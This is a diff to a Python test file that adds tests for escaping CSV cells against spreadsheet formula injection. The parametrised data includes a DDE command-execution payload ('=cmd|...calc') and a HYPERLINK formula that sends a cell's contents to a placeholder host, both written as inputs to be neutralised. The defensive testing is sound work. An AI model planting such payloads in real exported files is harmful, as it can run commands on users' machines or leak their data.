@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
 from planner.outputs.safety import (
     MAX_STEM,
     cell_text,
     chart_text,
+    csv_safe_text,
     header_text,
     looks_like_formula,
     safe_file_stem,
@@ -114,3 +117,33 @@ def test_fast_formula_preparation_matches_xlsxwriter(text: str) -> None:
     from planner.outputs.cells import PlainFormulaWorksheet
 
     assert PlainFormulaWorksheet()._prepare_formula(text) == Worksheet()._prepare_formula(text)
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ('=HYPERLINK("http://x/?"&A1,"click")', '\'=HYPERLINK("http://x/?"&A1,"click")'),
+    ("+1", "'+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
+    ("a=b", "a=b"), ("销售一组", "销售一组"), ("", ""), ("'=x", "'=x"),
+    (-5.0, -5.0), (-3, -3), (None, None),
+])
+def test_csv_safe_text(value: object, expected: object) -> None:
+    assert csv_safe_text(value) == expected
+
+
+def test_csv_writer_escapes_only_text_when_asked(tmp_path: Path) -> None:
+    import pandas as pd
+
+    from planner.outputs.csv_writer import write_csv
+
+    frame = pd.DataFrame({"team": ["=1+1", "North", None], "amount": [-1.5, 2.0, 3.0],
+                          "units": [-1, 2, 3],
+                          "tier": pd.Categorical(["@x", "high", "low"]),
+                          "=header": ["-y", "z", "w"]})
+    literal = write_csv(frame, tmp_path / "a.csv").read_text(encoding="utf-8")
+    assert literal.splitlines() == ["team,amount,units,tier,=header", "=1+1,-1.5,-1,@x,-y",
+                                    "North,2.0,2,high,z", ",3.0,3,low,w"]
+    safe = write_csv(frame, tmp_path / "b.csv", csv_safe=True).read_text(encoding="utf-8")
+    assert safe.splitlines() == ["team,amount,units,tier,'=header", "'=1+1,-1.5,-1,'@x,'-y",
+                                 "North,2.0,2,high,z", ",3.0,3,low,w"]
+    assert frame.loc[0, "team"] == "=1+1"  # the frame itself is not changed
